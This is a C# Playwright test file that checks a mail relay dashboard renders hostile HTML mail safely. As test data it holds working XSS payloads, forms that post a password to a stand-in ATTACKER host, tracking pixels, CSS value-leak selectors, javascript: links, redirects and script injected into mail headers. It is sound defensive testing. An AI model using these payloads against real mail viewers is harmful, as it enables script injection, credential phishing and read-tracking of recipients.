using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Microsoft.Playwright;
using Relay.TestKit;

namespace Relay.DashboardTests;

/// <summary>
/// Mail is written by strangers, and read here by somebody who may steer the relay. Each kind of harm that HTML can do is tried in a real browser: no script runs, nothing is
/// asked of anybody, nothing is laid over the page, and the page goes on working.
/// </summary>
public sealed class HostileMail : DashboardFixture
{
    /// <summary>A server of somebody else's: a browser that asks it for anything, or only connects, has told that the mail was read.</summary>
    private readonly TcpListener _attacker = new(IPAddress.Loopback, 0);

    [Test]
    public Task Scripts_do_not_run() =>
        IsHarmlessAsync(
            """
            <script>top.document.title = "owned"; fetch("http://ATTACKER/script")</script>
            <img src="x" onerror="top.document.title='owned'">
            <svg onload="top.document.title='owned'"><script>top.document.title='owned'</script></svg>
            <body onload="top.document.title='owned'"><details open ontoggle="top.document.title='owned'"><summary>x</summary></details>
            <iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
            <p>Hello there</p>
            """
        );

    [Test]
    public Task Forms_are_not_sent() =>
        IsHarmlessAsync(
            """
            <form id="f" action="http://ATTACKER/form" method="post"><input name="password" value="x" autofocus><button>Log in again</button></form>
            <form action="/api/v1/upstreams/default/box/drain" method="post"><button>Drain</button></form>
            <button form="f" formaction="http://ATTACKER/other">Send</button><p>Hello there</p>
            """,
            async (screen, frame) =>
            {
                foreach (var button in await frame.Locator("button, input").AllAsync())
                {
                    await button.ClickAsync(new() { Force = true });
                }

                Assert.That((await Relay.GetUpstreamsAsync())["box"].State, Is.EqualTo("healthy"));
            }
        );

    [Test]
    public Task Pictures_from_outside_are_not_asked_for() =>
        IsHarmlessAsync(
            """
            <img src="http://ATTACKER/pixel.gif" width="1" height="1"><img srcset="http://ATTACKER/2x.png 2x" alt="">
            <picture><source srcset="http://ATTACKER/s.png"><img alt=""></picture><body background="http://ATTACKER/bg.png">
            <table background="//ATTACKER/t.png"><tr><td>Hello there</td></tr></table><video poster="http://ATTACKER/v.png" src="http://ATTACKER/v.mp4" autoplay></video>
            <link rel="prefetch" href="http://ATTACKER/p"><link rel="dns-prefetch" href="//ATTACKER"><object data="http://ATTACKER/o"></object><embed src="http://ATTACKER/e">
            """
        );

    [Test]
    public Task Styles_reach_neither_the_page_nor_anybody_else() =>
        IsHarmlessAsync(
            """
            <link rel="stylesheet" href="http://ATTACKER/a.css">
            <style>@import url("http://ATTACKER/b.css"); @font-face { font-family: x; src: url(http://ATTACKER/f.woff) }
            body { background: url(http://ATTACKER/c.png); font-family: x } .mud-layout, main { display: none !important }
            input[value^="a"] { background: url(http://ATTACKER/leak?a) }</style>
            <div style="position:fixed;inset:0;z-index:2147483647;background:#fff url(http://ATTACKER/d.png)">Your session has ended</div>
            <div style="position:absolute;top:-500px;left:-500px;width:3000px;height:3000px">Hello there</div>
            """,
            async (screen, _) =>
            {
                // What lies at the middle of the navigation is still the navigation.
                var link = screen.Page.Locator("nav").GetByRole(AriaRole.Link, new() { Name = "Queue" });
                Assert.That(
                    await link.EvaluateAsync<bool>(
                        "a => { const r = a.getBoundingClientRect(); return a.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)); }"
                    ),
                    Is.True
                );
            },
            isTextVisible: false
        );

    [Test]
    public Task Links_that_are_scripts_do_nothing() =>
        IsHarmlessAsync(
            """
            <a href="javascript:top.document.title='owned'">one</a> <a href="JaVaScRiPt&colon;top.document.title='owned'">two</a>
            <a href="data:text/html,<script>top.document.title='owned'</script>" target="_top">three</a> <a href="vbscript:x">four</a>
            <a href="/api/v1/captured" target="_top" ping="http://ATTACKER/ping">five</a> <p>Hello there</p>
            """,
            async (screen, frame) =>
            {
                foreach (var link in await frame.Locator("a").AllAsync())
                {
                    await link.ClickAsync();
                }

                Assert.That(
                    await screen.Page.GetByRole(AriaRole.Tab, new() { Name = "Links" }).CountAsync(),
                    Is.Zero,
                    "none of them is offered to be followed"
                );
            }
        );

    [Test]
    public Task Nothing_leads_the_browser_away() =>
        IsHarmlessAsync(
            """
            <meta http-equiv="refresh" content="0;url=http://ATTACKER/away"><meta http-equiv="refresh" content="0;url=/configuration">
            <base href="http://ATTACKER/" target="_top"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>Hello there</p>
            """
        );

    [Test]
    public async Task A_body_of_20_MB_is_shown_as_far_as_a_browser_can_bear()
    {
        var html = new StringBuilder("<p>Hello there</p>", 20 * 1024 * 1024);
        for (var row = 0; html.Length < 20_000_000; row++)
        {
            html.Append(
                CultureInfo.InvariantCulture,
                $"<div title='{row}'><b>row {row}</b> lorem ipsum dolor sit amet consectetur <img src='http://ATTACKER/{row}'></div>\n"
            );
        }

        await IsHarmlessAsync(html.ToString());
    }

    [Test]
    public Task Names_and_subjects_are_text_wherever_they_are_shown() =>
        InAWindowAsync(async screen =>
        {
            const string script = "<img src=x onerror=document.title='owned'>";
            var mail =
                $"From: \"{script}\" <x@example.com>\r\nSubject: {script}\r\nMessage-ID: <{script}@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; name=\"{script}\"\r\nContent-Disposition: attachment; filename=\"{script}.html\"\r\n\r\nx\r\n";
            Assert.That(await SendAsync("\"<b>odd</b>\"@example.com", mail), Does.StartWith("250"));
            var id = await CapturedMail.NewestAsync(Relay.Api);
            foreach (var path in new[] { "/", "/mail", $"/mail/{id}", "/messages" })
            {
                await screen.GoAsync(path);
                await screen.Page.GetByText("Relay").First.WaitForAsync();
                Assert.That(await screen.Page.TitleAsync(), Does.EndWith("· Relay"), path);
                Assert.That(await screen.Page.Locator("img[src=x]").CountAsync(), Is.Zero, path);
            }
        });

    private protected override Task ConfigureAsync(RelayConfiguration configuration)
    {
        _attacker.Start();
        configuration.Set("Groups:default:Upstreams:box:Kind", "Capture").Set("Limits:MessageSize", 100_000_000);
        return Task.CompletedTask;
    }

    [OneTimeTearDown]
    public void StopServer() => _attacker.Dispose();

    /// <summary>Opens a mail of this HTML and does what somebody would do who falls for it.</summary>
    private Task IsHarmlessAsync(string html, Func<Screen, IFrameLocator, Task>? fallForIt = null, bool isTextVisible = true) =>
        InAWindowAsync(
            async screen =>
            {
                var subject = TestContext.CurrentContext.Test.MethodName!;
                var hostile = html.Replace("ATTACKER", $"{_attacker.LocalEndpoint}", StringComparison.Ordinal);
                Assert.That(await SendAsync("victim@example.com", Mails.Html(hostile, subject)), Does.StartWith("250"));
                screen.Page.Dialog += (_, dialog) => Assert.Fail($"A dialog: {dialog.Message}");
                screen.Page.Context.Page += (_, opened) => Assert.Fail($"A window was opened: {opened.Url}");
                await screen.GoAsync("/mail");
                await screen.Page.Locator(".mail-list button").Filter(new() { HasText = subject }).ClickAsync();
                var frame = screen.Page.FrameLocator("iframe.mail-frame");
                if (isTextVisible)
                {
                    await frame.GetByText("Hello there").First.WaitForAsync();
                }
                else
                {
                    await frame.Locator("body").WaitForAsync();
                }

                if (fallForIt is not null)
                {
                    await fallForIt(screen, frame);
                }

                // The page is where it was, says what it said, and still works.
                Assert.That(new Uri(screen.Page.Url).AbsolutePath, Does.StartWith("/mail/"));
                Assert.That(await screen.Page.TitleAsync(), Does.EndWith("· Relay"));
                await screen.Page.GetByRole(AriaRole.Tab, new() { Name = "Headers" }).ClickAsync();
                await screen.Page.Locator("tbody").GetByText(subject).WaitForAsync();
                Assert.That(_attacker.Pending(), Is.False, "nobody has been told that the mail was read");
            },
            // A browser says aloud what it has blocked, and so does what drives it; whether anything was sent, the server at the other end knows.
            isExpected: static complaint =>
                complaint.StartsWith("console: ", StringComparison.Ordinal)
                || complaint.StartsWith("request to another host: ", StringComparison.Ordinal)
        );
}
